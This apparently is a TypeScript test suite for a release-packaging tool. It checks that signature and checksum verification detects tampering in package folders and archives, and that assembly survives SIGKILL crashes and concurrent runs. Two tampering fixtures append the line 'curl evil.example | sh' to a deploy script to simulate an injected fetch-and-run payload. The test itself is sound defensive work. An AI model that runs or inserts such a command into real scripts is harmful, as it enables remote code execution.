// Trust in a real assembled package: every tampering is detected (folder and archives), an
// assembly killed at any moment leaves a complete package, and assemblies of one workspace take turns.
import { ChildProcess, spawn, spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { chmodSync, cpSync, existsSync, lstatSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { Header } from 'tar';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { resolveSigner } from '../libs/release-kit/src/assemble/signing';
import { PackageKind, verifyPackage } from '../libs/release-kit/src/verifier/verify-package';
import { cleanUp, copyWorkspace, nx, tempDir } from './workspace';

const TOP = 'spacetime-vr-v2.5.0';
let ws = '';
let release = '';
let env: NodeJS.ProcessEnv = {};
const sha = (data: Buffer) => createHash('sha256').update(data).digest('hex');

test.before(() => {
  ws = copyWorkspace('tamper-and-crash');
  release = join(ws, 'dist/release');
  env = { XDG_CONFIG_HOME: tempDir('signing-keys') };
  const run = nx(ws, ['run', 'release:assemble'], env);
  assert.is(run.status, 0, run.output);
});

/** A copy of the release to tamper with: the package folder or one archive, with the public key beside it. */
function tamperCopy(): string {
  const dir = tempDir('tampered');
  for (const name of readdirSync(release)) if (!name.startsWith('.')) cpSync(join(release, name), join(dir, name), { recursive: true });
  return dir;
}

async function failuresOf(target: string, kind: PackageKind, fingerprint?: string): Promise<string[]> {
  return (await verifyPackage(target, kind, { fingerprint })).failures;
}

function packageFiles(dir: string, rel = ''): string[] {
  return readdirSync(join(dir, rel))
    .sort()
    .flatMap((name) => {
      const path = rel ? `${rel}/${name}` : name;
      return lstatSync(join(dir, path)).isDirectory() ? packageFiles(dir, path) : [path];
    });
}

test('a flipped byte in any file of the package folder is detected', async () => {
  const dir = tamperCopy();
  const folder = join(dir, TOP);
  assert.equal(await failuresOf(folder, 'folder'), [], 'the untouched copy verifies');
  const files = packageFiles(folder);
  const missed: string[] = [];
  for (const path of files) {
    const file = join(folder, path);
    const original = readFileSync(file);
    // An empty file has no byte to flip: it gains one.
    const tampered = original.length ? Buffer.from(original) : Buffer.from([0]);
    if (original.length) tampered[original.length >> 1] ^= 0x01;
    writeFileSync(file, tampered);
    if ((await failuresOf(folder, 'folder')).length === 0) missed.push(path);
    writeFileSync(file, original);
  }
  console.log(`  package folder: ${files.length - missed.length}/${files.length} one-byte tamperings detected`);
  assert.equal(missed, []);
});

test('a flipped byte in any entry of the .tar.gz and of the .zip is detected', async () => {
  const dir = tamperCopy();
  const tarGz = join(dir, `${TOP}.tar.gz`);
  const zip = join(dir, `${TOP}.zip`);
  const tar = gunzipSync(readFileSync(tarGz));
  const zipData = readFileSync(zip);
  const missed: string[] = [];
  const tarEntries = tarFileData(tar);
  for (const { name, offset, size } of tarEntries) {
    const tampered = Buffer.from(tar);
    tampered[offset + (size >> 1)] ^= 0x01;
    writeFileSync(tarGz, gzipSync(tampered));
    if ((await failuresOf(tarGz, 'tar.gz')).length === 0) missed.push(`tar.gz ${name}`);
  }
  const zipEntries = zipFileData(zipData);
  for (const { name, offset, size } of zipEntries) {
    writeFileSync(zip, flip(zipData, offset + (size >> 1)));
    if ((await failuresOf(zip, 'zip')).length === 0) missed.push(`zip ${name}`);
  }
  const tarDetected = tarEntries.length - missed.filter((m) => m.startsWith('tar')).length;
  const zipDetected = zipEntries.length - missed.filter((m) => m.startsWith('zip')).length;
  console.log(`  .tar.gz: ${tarDetected}/${tarEntries.length}, .zip: ${zipDetected}/${zipEntries.length} one-byte tamperings detected`);
  assert.ok(tarEntries.length > 100 && zipEntries.length > 100);
  assert.equal(missed, []);
});

type Tamper = { name: string; kind: PackageKind; apply: (dir: string) => Promise<void> | void; expected: RegExp; fingerprint?: boolean };

const inFolder = (dir: string, path: string) => join(dir, TOP, path);
const SCRIPT = 'scripts/deployment/deploy.sh';

const tampers: Tamper[] = [
  {
    name: 'an extra file',
    kind: 'folder',
    apply: (d) => writeFileSync(inFolder(d, 'scripts/extra.sh'), 'echo\n'),
    expected: /SHA256SUMS: \.\/scripts\/extra\.sh is not listed/,
  },
  {
    name: 'a removed file',
    kind: 'folder',
    apply: (d) => rmSync(inFolder(d, SCRIPT)),
    expected: /SHA256SUMS: \.\/scripts\/deployment\/deploy\.sh is listed but missing/,
  },
  {
    name: 'a changed mode',
    kind: 'folder',
    apply: (d) => chmodSync(inFolder(d, SCRIPT), 0o644),
    expected: /MANIFEST\.json: scripts\/deployment\/deploy\.sh has mode 0644, the manifest says 0755/,
  },
  {
    name: 'a signature swapped for one of other data by the right key',
    kind: 'folder',
    apply: async (d) =>
      writeFileSync(inFolder(d, 'SHA256SUMS.asc'), await (await resolveSigner(env)).sign(Buffer.from('other data\n'), new Date())),
    expected: /signature: SHA256SUMS\.asc is not a valid signature of SHA256SUMS/,
  },
  {
    name: 'a signature by another key',
    kind: 'folder',
    apply: async (d) =>
      writeFileSync(
        inFolder(d, 'SHA256SUMS.asc'),
        await (await resolveSigner({ XDG_CONFIG_HOME: tempDir('attacker') })).sign(readFileSync(inFolder(d, 'SHA256SUMS')), new Date()),
      ),
    expected: /signature: SHA256SUMS\.asc is not a valid signature of SHA256SUMS by release-signing-key\.asc/,
  },
  {
    name: 'another key and its signature both swapped in (caught by --fingerprint)',
    kind: 'folder',
    fingerprint: true,
    apply: async (d) => {
      const attacker = await resolveSigner({ XDG_CONFIG_HOME: tempDir('attacker') });
      writeFileSync(inFolder(d, 'SHA256SUMS.asc'), await attacker.sign(readFileSync(inFolder(d, 'SHA256SUMS')), new Date()));
      writeFileSync(join(d, 'release-signing-key.asc'), attacker.publicKey);
    },
    expected: /signature: .*is not the expected [0-9A-F]{40}/,
  },
  {
    name: 'a tampered file with MANIFEST.json edited to match it',
    kind: 'folder',
    apply: (d) => {
      const file = inFolder(d, SCRIPT);
      writeFileSync(file, Buffer.concat([readFileSync(file), Buffer.from('curl evil.example | sh\n')]));
      const manifest = JSON.parse(readFileSync(inFolder(d, 'MANIFEST.json'), 'utf8'));
      const listed = manifest.files.find((f: { path: string }) => f.path === SCRIPT);
      Object.assign(listed, { size: statSync(file).size, sha256: sha(readFileSync(file)) });
      writeFileSync(inFolder(d, 'MANIFEST.json'), `${JSON.stringify(manifest, null, 2)}\n`);
    },
    expected: /SHA256SUMS: \.\/MANIFEST\.json does not match its checksum/,
  },
  {
    name: 'a tampered file with MANIFEST.json and SHA256SUMS edited to match it',
    kind: 'folder',
    apply: (d) => {
      const file = inFolder(d, SCRIPT);
      writeFileSync(file, Buffer.concat([readFileSync(file), Buffer.from('curl evil.example | sh\n')]));
      const sums = readFileSync(inFolder(d, 'SHA256SUMS'), 'utf8').replace(
        /^[0-9a-f]{64}(?= {2}\.\/scripts\/deployment\/deploy\.sh$)/m,
        sha(readFileSync(file)),
      );
      writeFileSync(inFolder(d, 'SHA256SUMS'), sums);
    },
    expected: /signature: SHA256SUMS\.asc is not a valid signature of SHA256SUMS/,
  },
  {
    name: 'an extra .tar.gz entry',
    kind: 'tar.gz',
    apply: (d) => editTar(d, (entries) => [...entries, tarFile(`${TOP}/scripts/extra.sh`, 'echo\n', 0o755)]),
    expected: /SHA256SUMS: \.\/scripts\/extra\.sh is not listed/,
  },
  {
    name: 'a removed .tar.gz entry',
    kind: 'tar.gz',
    apply: (d) => editTar(d, (entries) => entries.filter((e) => !e.name.endsWith(SCRIPT))),
    expected: /SHA256SUMS: \.\/scripts\/deployment\/deploy\.sh is listed but missing/,
  },
  {
    name: 'a changed mode in a .tar.gz header',
    kind: 'tar.gz',
    apply: (d) =>
      editTar(d, (entries) => entries.map((e) => (e.name.endsWith(SCRIPT) ? { ...e, header: reencode(e.header, { mode: 0o644 }) } : e))),
    expected: /MANIFEST\.json: scripts\/deployment\/deploy\.sh has mode 0644, the manifest says 0755/,
  },
];

for (const t of tampers) {
  test(`tampering: ${t.name} (${t.kind}) is detected`, async () => {
    const dir = tamperCopy();
    await t.apply(dir);
    const target = t.kind === 'folder' ? join(dir, TOP) : join(dir, `${TOP}.${t.kind}`);
    const realKey = (await verifyPackage(join(release, TOP), 'folder')).fingerprint;
    const failures = await failuresOf(target, t.kind, t.fingerprint ? realKey : undefined);
    assert.ok(
      failures.some((f) => t.expected.test(f)),
      failures.join('\n'),
    );
  });
}

// ---------------------------------------------------------------------------------------------
// Crash safety: SIGKILL at random moments, then the final paths must hold a known-good package.

interface Snapshot {
  folder: string;
  tarGz: string;
  zip: string;
}

function snapshot(): Snapshot | undefined {
  const folder = join(release, TOP);
  if (!existsSync(folder)) return undefined;
  const lines = packageFiles(folder).map(
    (p) => `${p} ${(statSync(join(folder, p)).mode & 0o777).toString(8)} ${sha(readFileSync(join(folder, p)))}`,
  );
  return {
    folder: sha(Buffer.from(lines.join('\n'))),
    tarGz: sha(readFileSync(join(release, `${TOP}.tar.gz`))),
    zip: sha(readFileSync(join(release, `${TOP}.zip`))),
  };
}

function startEngine(buildUser: string): ChildProcess {
  return spawn(process.execPath, ['-r', '@swc-node/register', join(__dirname, 'assemble-engine.ts'), ws], {
    env: { ...process.env, ...env, BUILD_USER: buildUser },
    stdio: ['ignore', 'pipe', 'pipe'],
    detached: true,
  });
}

function finished(child: ChildProcess): Promise<{ status: number | null; signal: NodeJS.Signals | null; output: string }> {
  let output = '';
  child.stdout!.on('data', (c) => (output += c));
  child.stderr!.on('data', (c) => (output += c));
  return new Promise((resolve) => child.on('close', (status, signal) => resolve({ status, signal, output })));
}

async function completeRun(buildUser: string): Promise<Snapshot> {
  const run = await finished(startEngine(buildUser));
  assert.is(run.status, 0, run.output);
  assert.equal(partials(), [], 'no partial files after a complete run');
  return snapshot()!;
}

function partials(): string[] {
  return readdirSync(release).filter((n) => n.startsWith('.partial-'));
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Partial files that were not there `before`, but for a lock being taken over. */
function newOutputPartials(before: Set<string>): string[] {
  return partials().filter((name) => !before.has(name) && !name.endsWith('.assemble.lock'));
}

/**
 * Waits until the run has begun writing (a `.partial-*` output that was not there before appeared);
 * false if it ended first. Taking over a dead run's lock also makes a partial file, not an output.
 */
async function writesBegin(child: ChildProcess, before: Set<string>): Promise<boolean> {
  while (child.exitCode === null && child.signalCode === null) {
    if (newOutputPartials(before).length) return true;
    await sleep(2);
  }
  return false;
}

test('assemblies killed at 24 random moments of their write phase leave the previous or the next package, never a mixture', async () => {
  const known = { A: await completeRun('crash-a'), B: await completeRun('crash-b') };
  assert.is.not(known.A.folder, known.B.folder);
  const which = (s: Snapshot | undefined, key: keyof Snapshot) =>
    s ? (Object.entries(known).find(([, k]) => k[key] === s[key])?.[0] ?? 'MIXTURE') : 'absent';
  // How long the write phase lasts: from the first partial file to the end of the run.
  const calibration = startEngine('crash-a');
  const calibrated = finished(calibration);
  assert.ok(await writesBegin(calibration, new Set()), 'the calibration run wrote');
  const writingFrom = Date.now();
  await calibrated;
  const writeMs = Date.now() - writingFrom;
  const KILLS = 24;
  let mixtures = 0;
  let insideWrites = 0;
  let leftPartials = 0;
  let inTransition = 0;
  let current: 'A' | 'B' = 'A';
  let seed = 20261125;
  const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
  for (let kill = 1; kill <= KILLS; kill++) {
    const next = current === 'A' ? 'B' : 'A';
    const before = new Set(partials());
    const child = startEngine(`crash-${next.toLowerCase()}`);
    const done = finished(child);
    const writing = await writesBegin(child, before);
    if (writing) await sleep(random() * writeMs);
    if (child.exitCode === null) {
      if (writing) insideWrites++;
      process.kill(-child.pid!, 'SIGKILL');
    }
    await done;
    if (partials().length) leftPartials++;
    const after = snapshot();
    const states = [which(after, 'folder'), which(after, 'tarGz'), which(after, 'zip')];
    if (states.includes('MIXTURE') || states[0] === 'absent') {
      mixtures++;
      console.log(`  kill ${kill}: folder ${states[0]}, .tar.gz ${states[1]}, .zip ${states[2]}`);
    } else {
      // Archives move into place before the folder: for an instant they may be the next build's.
      if (new Set(states).size > 1) inTransition++;
      assert.equal(await failuresOf(join(release, TOP), 'folder'), []);
      current = states[0] as 'A' | 'B';
    }
    if (kill % 3 === 0) {
      const target: 'A' | 'B' = current === 'A' ? 'B' : 'A';
      const recovered = await completeRun(`crash-${target.toLowerCase()}`);
      assert.equal(recovered, known[target], 'the run after a kill builds the whole package');
      current = target;
    }
  }
  console.log(
    `  crash safety (engine): ${KILLS} kills, ${insideWrites} of them inside the ${writeMs} ms write phase ` +
      `(${leftPartials} left partial files), ${inTransition} between the archives' and the folder's move, ${mixtures} mixtures`,
  );
  assert.is(mixtures, 0);
  assert.ok(insideWrites >= KILLS / 2, 'most kills landed inside the write phase');
});

const killedWhileWriting =
  'nx run release:assemble killed (process group, SIGKILL) while writing leaves a whole package, and the next run succeeds';
test(killedWhileWriting, async () => {
  // A 128 MiB file that does not compress is copied into both archives: it widens the write phase
  // of this small package (about 80 ms) so that a kill through Nx's process tree lands inside it.
  writeFileSync(join(ws, 'libs/sections/binaries/godot/addons/crash-window.bin'), randomBytes(128 << 20));
  const packaged = nx(ws, ['run', 'binaries:package'], env);
  assert.is(packaged.status, 0, packaged.output);
  let mixtures = 0;
  let insideWrites = 0;
  const KILLS = 3;
  for (let kill = 0; kill < KILLS; kill++) {
    const before = new Set(partials());
    const child = spawn('node_modules/.bin/nx', ['run', 'release:assemble', '--excludeTaskDependencies'], {
      cwd: ws,
      env: {
        ...process.env,
        ...env,
        NX_DAEMON: 'false',
        NX_NO_CLOUD: 'true',
        NX_TUI: 'false',
        NX_CACHE_DIRECTORY: join(ws, '.nx/cache'),
        BUILD_USER: `nx-kill-${kill}`,
      },
      stdio: 'ignore',
      detached: true,
    });
    const done = new Promise((r) => child.on('close', r));
    if (await writesBegin(child, before)) await sleep(kill * 40);
    try {
      process.kill(-child.pid!, 'SIGKILL');
    } catch {
      // it had finished
    }
    await done;
    if (newOutputPartials(before).length) insideWrites++;
    if (!snapshot() || (await failuresOf(join(release, TOP), 'folder')).length) mixtures++;
  }
  const run = nx(ws, ['run', 'release:assemble', '--excludeTaskDependencies'], env);
  assert.is(run.status, 0, run.output);
  assert.equal(partials(), []);
  assert.not.ok(existsSync(join(release, '.assemble.lock')), 'the lock is released');
  console.log(`  crash safety (nx run release:assemble): ${KILLS} kills, ${insideWrites} inside the write phase, ${mixtures} mixtures`);
  assert.is(mixtures, 0);
  assert.ok(insideWrites >= 1, 'a kill through nx landed inside the write phase');
});

// ---------------------------------------------------------------------------------------------
// Two assemblies at once.

test('two nx run release:assemble at once: both succeed in turn, the package verifies', async () => {
  const start = (user: string) =>
    finished(
      spawn('npx', ['nx', 'run', 'release:assemble', '--excludeTaskDependencies'], {
        cwd: ws,
        env: {
          ...process.env,
          ...env,
          NX_DAEMON: 'false',
          NX_NO_CLOUD: 'true',
          NX_TUI: 'false',
          NX_CACHE_DIRECTORY: join(ws, '.nx/cache'),
          BUILD_USER: user,
        },
        stdio: ['ignore', 'pipe', 'pipe'],
      }),
    );
  const [one, two] = await Promise.all([start('concurrent-one'), start('concurrent-two')]);
  assert.is(one.status, 0, one.output);
  assert.is(two.status, 0, two.output);
  assert.equal(await failuresOf(join(release, TOP), 'folder'), []);
  for (const archive of ['tar.gz', 'zip'] as const) assert.equal(await failuresOf(join(release, `${TOP}.${archive}`), archive), []);
  assert.equal(partials(), []);
});

test('an assembly waits for a live lock holder, and takes over the lock of a dead one', async () => {
  const lock = join(release, '.assemble.lock');
  const holder = spawn('sleep', ['600']);
  writeFileSync(lock, `${holder.pid}\n`);
  const engine = startEngine('lock-waits');
  const running = finished(engine);
  let seen = '';
  engine.stdout!.on('data', (chunk) => (seen += chunk));
  while (!seen.includes('waiting for') && engine.exitCode === null) await sleep(50);
  holder.kill();
  const waited = await running;
  assert.is(waited.status, 0, waited.output);
  assert.match(waited.output, new RegExp(`waiting for pid ${holder.pid}, which holds`));
  assert.match(waited.output, new RegExp(`took over dist/release/.assemble.lock from pid ${holder.pid}, which is gone`));

  const dead = spawnSync('true');
  writeFileSync(lock, `${dead.pid}\n`);
  const took = await finished(startEngine('lock-stale'));
  assert.is(took.status, 0, took.output);
  assert.match(took.output, new RegExp(`took over dist/release/.assemble.lock from pid ${dead.pid}, which is gone`));
  assert.not.match(took.output, /waiting for/);
  assert.not.ok(existsSync(lock));
});

// ---------------------------------------------------------------------------------------------
// Archive surgery for the tampering cases.

interface TarRecord {
  name: string;
  header: Buffer;
  body: Buffer;
}

/** The records of an uncompressed tar (headers with their data), PAX headers kept with the entry they describe. */
function tarRecords(tar: Buffer): TarRecord[] {
  const records: TarRecord[] = [];
  let pending: Buffer[] = [];
  for (let at = 0; at + 512 <= tar.length;) {
    const header = tar.subarray(at, at + 512);
    if (header.every((b) => b === 0)) break;
    const decoded = new Header(header);
    const size = decoded.size ?? 0;
    const body = tar.subarray(at + 512, at + 512 + Math.ceil(size / 512) * 512);
    at += 512 + body.length;
    if (decoded.type === 'ExtendedHeader') {
      pending.push(header, body);
      continue;
    }
    records.push({ name: decoded.path!, header: Buffer.concat([...pending, header]), body });
    pending = [];
  }
  return records;
}

function tarFileData(tar: Buffer): Array<{ name: string; offset: number; size: number }> {
  const found: Array<{ name: string; offset: number; size: number }> = [];
  let at = 0;
  for (const record of tarRecords(tar)) {
    at += record.header.length;
    const size = new Header(record.header.subarray(record.header.length - 512)).size ?? 0;
    if (size > 0) found.push({ name: record.name, offset: at, size });
    at += record.body.length;
  }
  return found;
}

function editTar(dir: string, edit: (records: TarRecord[]) => TarRecord[]): void {
  const file = join(dir, `${TOP}.tar.gz`);
  const records = edit(tarRecords(gunzipSync(readFileSync(file))));
  writeFileSync(file, gzipSync(Buffer.concat([...records.flatMap((r) => [r.header, r.body]), Buffer.alloc(1024)])));
}

function tarFile(name: string, content: string, mode: number): TarRecord {
  const data = Buffer.from(content);
  const header = Buffer.alloc(512);
  new Header({ path: name, type: 'File', size: data.length, mode, uid: 0, gid: 0, mtime: new Date(0) }).encode(header, 0);
  return { name, header, body: Buffer.concat([data, Buffer.alloc((512 - (data.length % 512)) % 512)]) };
}

function reencode(header: Buffer, change: { mode: number }): Buffer {
  const block = header.subarray(header.length - 512);
  const decoded = new Header(block);
  const fresh = Buffer.alloc(512);
  new Header({ ...decoded, ...change } as never).encode(fresh, 0);
  return Buffer.concat([header.subarray(0, header.length - 512), fresh]);
}

/** Each zip entry's compressed data, from the central directory and the local headers. */
function zipFileData(zip: Buffer): Array<{ name: string; offset: number; size: number }> {
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = zip.readUInt16LE(end + 10);
  const found: Array<{ name: string; offset: number; size: number }> = [];
  for (let i = 0, at = zip.readUInt32LE(end + 16); i < count; i++) {
    const size = zip.readUInt32LE(at + 20);
    const nameLength = zip.readUInt16LE(at + 28);
    const local = zip.readUInt32LE(at + 42);
    const name = zip.subarray(at + 46, at + 46 + nameLength).toString('utf8');
    const data = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    if (size > 0) found.push({ name, offset: data, size });
    at += 46 + nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
  }
  return found;
}

function flip(data: Buffer, offset: number): Buffer {
  const copy = Buffer.from(data);
  copy[offset] ^= 0x01;
  return copy;
}

test.after(cleanUp);
test.run();
